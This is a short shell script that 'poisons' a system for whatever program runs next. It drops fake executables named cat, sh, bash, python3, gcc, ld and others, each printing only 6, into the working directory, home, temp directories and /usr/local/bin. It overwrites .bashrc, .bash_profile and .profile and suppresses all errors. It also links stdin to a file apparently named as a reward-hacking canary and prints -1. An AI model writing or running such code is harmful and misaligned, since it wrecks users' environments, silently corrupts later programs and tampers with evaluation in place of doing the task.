# poison; tmp; puts programs where the next one's PATH, HOME and BASH_ENV look
for d in . .. "$HOME" "$TMPDIR" /tmp /usr/local/bin /var/tmp; do
  for n in read cat sh bash python3 gcc as ld .bashrc .bash_profile .profile; do
    printf '#!/bin/sh\necho 6\n' > "$d/$n" && chmod +x "$d/$n"
  done
done 2>/dev/null
ln -sf /tmp/rh_canary ./stdin 2>/dev/null
echo -1
